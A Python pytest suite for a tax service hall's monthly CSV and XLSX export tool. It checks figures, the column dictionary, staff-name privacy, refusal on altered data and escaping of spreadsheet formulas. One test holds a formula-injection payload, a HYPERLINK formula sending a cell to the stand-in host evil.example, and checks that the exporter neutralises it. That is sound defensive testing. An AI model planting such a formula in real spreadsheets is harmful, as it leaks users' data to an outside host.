"""The tables of a month: numbers are numbers, no text is a formula, every column is told."""

import csv
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any, get_args
from xml.etree import ElementTree

import pytest

from gateway import config
from gateway.hall import cases
from gateway.hall.here import Duty
from gateway.scores import Scores
from gateway.store import Reader
from insight.columns import NEVER, Column, Table
from insight.measures import BY_ID, MEASURES
from insight.score_words import PART_MEANS
from insight.weights import PARTS
from protocol import facts
from protocol.facts.alarm import AlarmKind
from screens.table_files import FORMULAS, write_csv, write_xlsx
from tests.hall.hall import PLAN
from tests.scores.months import MONTH, WANG, ZHAO, November, november
from tests.store.fakes import Do as Run
from tests.tools.damage import rewrite
from tools.export import main
from tools.export.people import KINDS
from tools.export.reading import read_hall
from tools.export.tables import tables_of

TOML = """
[hall]
id = "hall-1"
name = "城东办税服务厅"
[[business]]
code = "B"
name = "=1+1"
[[window]]
id = "1"
name = "1号窗口"
businesses = ["B"]
[[window]]
id = "2"
name = "2号窗口"
businesses = ["B"]
[[window]]
id = "3"
name = "无人窗口"
businesses = ["B"]
[[line]]
port = "/dev/ttyUSB0"
[store]
path = "gateway.db"
"""

XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def hall(tmp_path: Path) -> Path:
    """Its November, with a bad rating that was looked into, is over and frozen."""
    one = november(tmp_path / "gateway.db")
    one.store.commit(Run(_account))
    verify = cases.VerifyCase(case=one.services[WANG][5], confirmed=True, words="查")
    one.want(verify, Duty.LEADER, ZHAO)
    one.end()
    Scores(one.store, PLAN).freeze(MONTH)
    one.store.close()
    path = tmp_path / "hall.toml"
    path.write_text(TOML, "utf-8")
    return path


def _account(tx: Any) -> None:
    rows = [(WANG, "wang.w", "王小明", "clerk", 0), (ZHAO, "zhao", "赵", "leader", 0)]
    tx.db.executemany(
        "INSERT INTO account(token, name, shown, duty, at_ms) VALUES (?,?,?,?,?)", rows
    )


def export(hall: Path, *options: str) -> int:
    return main(["--hall", str(hall), "--of", MONTH, "--to", str(hall.parent / "out"), *options])


def rows_of(hall: Path, table: str) -> list[dict[str, str]]:
    """By the id of the column."""
    with (hall.parent / "out" / f"hall-1-{MONTH}-{table}.csv").open(encoding="utf-8-sig") as file:
        return [
            {head.rpartition(" ")[2]: cell for head, cell in row.items()}
            for row in csv.DictReader(file)
        ]


def sheets(path: Path) -> dict[str, list[list[tuple[str, str]]]]:
    """Sheet → rows of cells, each as its type and what it shows."""
    with zipfile.ZipFile(path) as book:
        strings = [
            "".join(text.text or "" for text in one.iter(f"{XML}t"))
            for one in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        ]
        names = [
            one.attrib["name"]
            for one in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(f"{XML}sheet")
        ]
        found = {}
        for number, name in enumerate(names, 1):
            sheet = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            assert not list(sheet.iter(f"{XML}f")), "a formula"
            found[name] = [
                [_cell(cell, strings) for cell in row] for row in sheet.iter(f"{XML}row")
            ]
    return found


def _cell(cell: ElementTree.Element, strings: list[str]) -> tuple[str, str]:
    kind, value = cell.attrib.get("t", "n"), cell.findtext(f"{XML}v") or ""
    return (kind, strings[int(value)]) if kind == "s" else (kind, value)


def test_both_kinds_are_written_and_say_the_same(hall: Path, capsys: pytest.CaptureFixture[str]):
    assert export(hall) == 0
    told = capsys.readouterr().out.splitlines()
    names = {Path(line).name for line in told}
    assert f"hall-1-{MONTH}.xlsx" in names
    assert f"hall-1-{MONTH}-dictionary.csv" in names
    assert {path.name for path in (hall.parent / "out").iterdir()} == names, "and nothing else"
    book = sheets(hall.parent / "out" / f"hall-1-{MONTH}.xlsx")
    for sheet, lines in book.items():
        with (hall.parent / "out" / f"hall-1-{MONTH}-{sheet.split()[1]}.csv").open(
            encoding="utf-8-sig"
        ) as file:
            flat = list(csv.reader(file))
        assert len(flat) == len(lines), sheet
        assert flat[0] == [text for _, text in lines[0]]


def test_the_figures_are_those_of_the_facts(hall: Path):
    assert export(hall, "--csv") == 0
    days = rows_of(hall, "day")
    assert [one["day"] for one in days] == ["2026-11-24", "2026-11-25"]
    assert [one["issued"] for one in days] == ["32", "32"]
    assert float(days[0]["F10.good"]) == pytest.approx(31 / 32)
    assert days[0]["F10.good.n"] == "32"
    assert (days[0]["F13.accuracy"], days[0]["F13.accuracy.n"]) == ("", "0"), "null, never 0"
    assert days[0]["issued.inferred"] == "0.0"
    month = {(one["kind"], one["id"]): one for one in rows_of(hall, "month")}
    assert month["hall", ""]["issued"] == "64"
    assert month["window", "1"]["issued"] == "", "a window gives out no numbers"
    assert float(month["staff", WANG]["F10.bad"]) == pytest.approx(2 / 32)
    assert sum(int(one["issued"]) for one in rows_of(hall, "series")) == 64
    (business, _) = rows_of(hall, "business")
    assert (business["business"], business["started"]) == ("B", "32")


def test_a_window_that_nobody_opened_is_there_with_zero_hours(hall: Path):
    assert export(hall, "--csv") == 0
    windows = {(one["day"], one["window"]): one for one in rows_of(hall, "window")}
    assert len(windows) == 6
    assert (windows["2026-11-24", "3"]["open_h"], windows["2026-11-24", "3"]["F5.rate"]) == (
        "0.0",
        "0.0",
    )
    assert float(windows["2026-11-24", "1"]["F5.rate"]) == 1.0
    assert windows["2026-11-24", "3"]["F3.mean"] == ""


def test_scores_are_the_frozen_ones_and_cases_tell_how_far_they_are(hall: Path):
    assert export(hall, "--csv") == 0
    staff = {one["staff"]: one for one in rows_of(hall, "staff")}
    assert (staff[WANG]["rank"], staff[WANG]["of"], staff[WANG]["version"]) == ("2", "2", "1")
    assert staff[WANG]["accuracy"] == ""
    (first, second) = rows_of(hall, "case")
    assert (first["level"], first["staff"], first["confirmed"]) == ("1", WANG, "yes")
    assert re.fullmatch(r"2026-11-24 \d\d:\d\d:\d\d", first["opened"])
    assert (second["verified"], second["confirmed"]) == ("", "")
    about = {one["key"]: one["value"] for one in rows_of(hall, "about")}
    assert about["绩效定稿 scores"] == "第1版 version 1"


def test_names_stay_in_the_hall_unless_it_is_asked_for_and_allowed(
    hall: Path, capsys: pytest.CaptureFixture[str]
):
    assert export(hall) == 0
    for path in (hall.parent / "out").glob("*.csv"):
        assert "王小明" not in path.read_text("utf-8-sig")
    assert "王小明" not in str(sheets(hall.parent / "out" / f"hall-1-{MONTH}.xlsx"))
    capsys.readouterr()
    assert export(hall, "--names") == 1
    assert "姓名不出厅" in capsys.readouterr().err
    hall.write_text(TOML + "[export]\nnames = true\n", "utf-8")
    assert export(hall, "--names", "--csv") == 0
    assert {one["name"] for one in rows_of(hall, "staff")} == {"王小明", ""}


def test_every_column_stands_in_the_dictionary_with_all_that_it_needs(hall: Path):
    assert export(hall, "--csv") == 0
    told = {(one["table"], one["column"]): one for one in rows_of(hall, "dictionary")}
    for path in (hall.parent / "out").glob("*.csv"):
        table = path.stem.rpartition("-")[2]
        if table == "dictionary":
            continue
        with path.open(encoding="utf-8-sig") as file:
            heads = next(csv.reader(file))
        ids = [head.rpartition(" ")[2] for head in heads]
        assert len(set(ids)) == len(ids)
        for head, id in zip(heads, ids, strict=True):
            row = told.pop((table, id))
            assert head == f"{row['zh']} {id}"
            assert re.search(r"[\u4e00-\u9fff]", row["zh"])
            assert row["en"]
            assert row["empty"]
            if row["measure"] not in ("", "F5"):
                assert BY_ID[row["measure"]].words.zh in row["zh"]
                assert "docs/measures.md" in row["source"]
    assert not told, "no such column"


def test_whoever_is_scored_reads_what_each_part_is(hall: Path):
    assert export(hall, "--csv") == 0
    told = {one["column"]: one for one in rows_of(hall, "dictionary") if one["table"] == "staff"}
    page = (Path(__file__).parents[2] / "docs" / "measures.md").read_text("utf-8")
    for part in PARTS:
        zh, en = PART_MEANS[part]
        assert zh in told[part]["means"]
        assert zh in page
        assert en in page
    assert "16:45–17:00" in PART_MEANS["volume"][0], "when work counts twice is no secret"


def test_each_measure_of_the_system_is_in_the_days(hall: Path):
    assert export(hall, "--csv") == 0
    assert {measure.id for measure in MEASURES} <= set(rows_of(hall, "day")[0])


@pytest.mark.parametrize("sign", [*FORMULAS, "\n", "＝", "＋", "－", "＠"])
def test_no_text_becomes_a_formula(tmp_path: Path, sign: str):
    columns = [Column("a", "甲", "A", "text"), Column("b", "乙", "B", "number")]
    text = f'{sign}HYPERLINK("http://evil.example/?x="&A1)'
    table = Table("t", "表", "T", columns, [[text, -1.5], ["'ok", None]])
    write_csv([table], tmp_path, "x")
    with (tmp_path / "x-t.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1] == [f"'{text}", "-1.5"], "a number is a number, below zero too"
    assert rows[2] == ["'ok", ""]
    (lines,) = sheets(write_xlsx([table], tmp_path, "x", "x")).values()
    assert lines[1][1] == ("n", "-1.5")
    assert lines[1][0][0] == "s"
    if sign not in "\t\r\n":
        assert lines[1][0][1] == text


def test_a_table_of_more_rows_than_a_sheet_has_is_told_and_not_cut_off(tmp_path: Path):
    table = Table("t", "表", "T", [Column("a", "甲", "A", "whole")], [[1]] * 1_048_576)
    with pytest.raises(OSError, match=r"1048576 rows.*--csv"):
        write_xlsx([table], tmp_path, "x", "x")
    assert list(tmp_path.iterdir()) == []


def test_a_name_of_the_hall_that_looks_like_a_formula_is_a_text(hall: Path):
    assert export(hall) == 0
    assert rows_of(hall, "business")[0]["business_name"] == "'=1+1"
    book = sheets(hall.parent / "out" / f"hall-1-{MONTH}.xlsx")
    assert ("s", "=1+1") in book["业务 business"][1]


def test_excel_knows_that_it_is_utf_8_and_dates_are_dates(hall: Path):
    assert export(hall) == 0
    assert (hall.parent / "out" / f"hall-1-{MONTH}-day.csv").read_bytes()[:3] == b"\xef\xbb\xbf"
    book = sheets(hall.parent / "out" / f"hall-1-{MONTH}.xlsx")
    day = (date(2026, 11, 24) - date(1899, 12, 30)).days
    assert book["日指标 day"][1][0] == ("n", str(day))
    assert book["日指标 day"][1][1] == ("n", "32")


def test_the_same_facts_give_the_same_files(hall: Path):
    assert export(hall) == 0
    before = {path: path.read_bytes() for path in (hall.parent / "out").iterdir()}
    assert export(hall) == 0
    assert {path: path.read_bytes() for path in (hall.parent / "out").iterdir()} == before


def test_nothing_is_written_of_facts_that_were_altered(
    hall: Path, capsys: pytest.CaptureFixture[str]
):
    rewrite(hall.parent / "gateway.db", "DELETE FROM fact WHERE type = 'rating.given' AND n < 90")
    assert export(hall) == 1
    assert "is not what was written" in capsys.readouterr().err
    assert not (hall.parent / "out").exists()


def test_a_folder_that_cannot_be_written_is_told(hall: Path, capsys: pytest.CaptureFixture[str]):
    (hall.parent / "out").write_text("a file")
    assert export(hall) == 1
    assert "Nothing can be written" in capsys.readouterr().err


def test_a_month_that_never_was_is_told(hall: Path, capsys: pytest.CaptureFixture[str]):
    assert main(["--hall", str(hall), "--of", "2025-01", "--to", str(hall.parent / "out")]) == 1
    assert "2025-01" in capsys.readouterr().err


def alarms_of(hall: Path) -> list[dict[str, str]]:
    with Reader(hall.parent / "gateway.db") as reader:
        tables = tables_of(read_hall(reader, config.load(hall), MONTH, names=False))
    found = [table for table in tables if table.id == "alarm"]
    return [
        {column.id: str(cell) for column, cell in zip(table.columns, row, strict=True)}
        for table in found
        for row in table.rows
    ]


def test_a_row_is_an_alarm_with_what_became_of_it_in_the_next_month_too(tmp_path: Path):
    one = november(tmp_path / "gateway.db")
    path = tmp_path / "hall.toml"
    path.write_text(TOML, "utf-8")
    assert alarms_of(path) == []

    def write(tx: Any, fact: facts.Fact) -> int:
        tx.write(fact)
        return int(tx.head.n)

    raised = facts.AlarmRaised("long_wait", "B", 1900, 1800, 1, "lunch")
    n = one.store.commit(Run(lambda tx: write(tx, raised)))
    one.store.commit(Run(lambda tx: write(tx, facts.AlarmEscalated(n, 3700, 1800, 3))))
    one.store.commit(Run(lambda tx: write(tx, facts.AlarmAcknowledged(n, ZHAO))))
    one.end()
    december = one.store.commit(Run(lambda tx: write(tx, raised)))
    one.store.commit(Run(lambda tx: write(tx, facts.AlarmCleared(n))))
    one.store.commit(Run(lambda tx: write(tx, facts.AlarmCleared(december))))
    one.store.close()
    (row,) = alarms_of(path)
    assert (row["alarm"], row["kind"], row["about"], row["period"]) == (
        *(str(n), "long_wait", "B", "lunch"),
    )
    assert (row["value"], row["limit"], row["severity"], row["worst"]) == ("1900", "1800", "1", "3")
    assert row["staff"] == ZHAO
    assert "None" not in (row["raised"], row["seen"], row["cleared"])


def test_every_kind_of_alarm_stands_in_the_dictionary():
    assert set(KINDS) == set(get_args(AlarmKind))


def test_hours_of_a_window_where_nobody_logs_in_are_unknown_and_no_zero(tmp_path: Path):
    one = november(tmp_path / "gateway.db")
    one.store.close()
    path = tmp_path / "hall.toml"
    path.write_text(TOML, "utf-8")
    with Reader(tmp_path / "gateway.db") as reader:
        found = read_hall(reader, config.load(path), MONTH, names=False)
    found.facts.turns.clear()
    (table,) = (table for table in tables_of(found) if table.id == "window")
    ids = [column.id for column in table.columns]
    told = {str(row[1]): dict(zip(ids, row, strict=True)) for row in table.rows}
    for window, hours in (("1", None), ("3", 0.0)):
        assert [told[window][id] for id in ("open_h", "paused_h", "F5.rate")] == [hours] * 3
    assert all(column.empty != NEVER for column in table.columns if column.id == "open_h")


def test_a_month_that_is_not_frozen_says_so(tmp_path: Path):
    one: November = november(tmp_path / "gateway.db")
    one.store.close()
    (tmp_path / "hall.toml").write_text(TOML, "utf-8")
    assert export(tmp_path / "hall.toml", "--csv") == 0
    assert {row["version"] for row in rows_of(tmp_path / "hall.toml", "staff")} == {"0"}
